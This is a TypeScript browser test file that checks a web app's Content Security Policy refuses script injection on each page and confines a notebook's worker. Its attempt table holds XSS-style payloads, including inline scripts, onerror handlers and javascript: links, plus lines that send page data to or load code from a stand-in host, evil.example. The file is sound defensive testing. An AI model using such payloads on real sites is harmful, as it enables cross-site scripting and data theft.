import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { pages } from "../../src/components/navigation.js";
import { launch, open } from "./browser.js";

const url = inject("siteUrl");
let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

/** What an attacker who got markup or text into a page would try; each sets `owned`, or calls an address. */
const attempts: Readonly<Record<string, string>> = {
  "an inline script": `const s = document.createElement("script"); s.textContent = "window.owned=1"; document.body.append(s)`,
  "a handler in markup": `document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.owned=1'>")`,
  "text as code": `setTimeout("window.owned=1")`,
  "a script from outside": `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s)`,
  "a script from data": `const s = document.createElement("script"); s.src = "data:text/javascript,window.owned=1"; document.body.append(s)`,
  "a link that is code": `const a = document.createElement("a"); a.href = "javascript:window.owned=1"; document.body.append(a); a.click()`,
  "a call to outside": `fetch("https://evil.example/?" + document.title).catch(() => {})`,
  "a beacon": `navigator.sendBeacon("https://evil.example/", document.title)`,
  "an open line": `try { new WebSocket("wss://evil.example/") } catch {}`,
  "a picture from outside": `new Image().src = "https://evil.example/x.png?" + document.title`,
  "a frame": `const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)`,
  "a form": `const f = document.createElement("form"); f.action = "https://evil.example/"; document.body.append(f); f.submit()`,
  "another base": `const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b)`,
  "an object": `const o = document.createElement("object"); o.data = "https://evil.example/x.swf"; document.body.append(o)`,
};

describe("the policy, as the browser keeps it", () => {
  it.each(pages.map(({ path }) => path))("refuses whatever an attacker would try on %s", async (path) => {
    const { page, close } = await open(browser, `${url}/team/aftersales/en/${path}.html`);
    await page.evaluate(() => {
      const seen: string[] = [];
      Object.assign(globalThis, { seen });
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));
    });
    for (const code of Object.values(attempts)) {
      const before = await page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen.length);
      await page.evaluate(code);
      await page.waitForFunction((n) => (globalThis as unknown as { seen: string[] }).seen.length > n, before);
    }
    expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
    expect(new URL(page.url()).pathname).toContain(path);
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
    await close();
  });

  it("confines the notebook's worker as the page: it reaches no other address, and compiles nothing but WebAssembly", async () => {
    const { page, close } = await open(browser, `${url}/team/saas/en/notebook.html`);
    const answer = await page.evaluate(() => {
      const code = `onmessage = async () => {
        const tried = {};
        const attempt = async (name, work) => { try { await work(); tried[name] = "done"; } catch (error) { tried[name] = error.name; } };
        await attempt("fetch", () => fetch("https://evil.example/"));
        await attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "https://evil.example/", false); r.send(); });
        await attempt("eval", () => eval("1"));
        await attempt("function", () => Function("return 1")());
        await attempt("import", () => importScripts("https://evil.example/x.js"));
        await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("wss://evil.example/"); s.onopen = yes; s.onerror = () => no(new Error()); }));
        postMessage(tried);
      }`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      return new Promise<Record<string, string>>((resolve) => {
        worker.onmessage = ({ data }) => resolve(data as Record<string, string>);
        worker.postMessage(0);
      });
    });
    expect(Object.keys(answer)).toEqual(["fetch", "request", "eval", "function", "import", "socket"]);
    expect(Object.values(answer)).not.toContain("done");
    expect([answer["eval"], answer["function"]]).toEqual(["EvalError", "EvalError"]);
    await close();
  });

  it("lets no other page start a worker", async () => {
    const { page, close } = await open(browser, `${url}/team/saas/en/customers.html`);
    const outcome = await page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          try {
            new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => resolve("ran");
          } catch {
            resolve("refused");
          }
        }),
    );
    expect(outcome).not.toBe("ran");
    await close();
  });
});
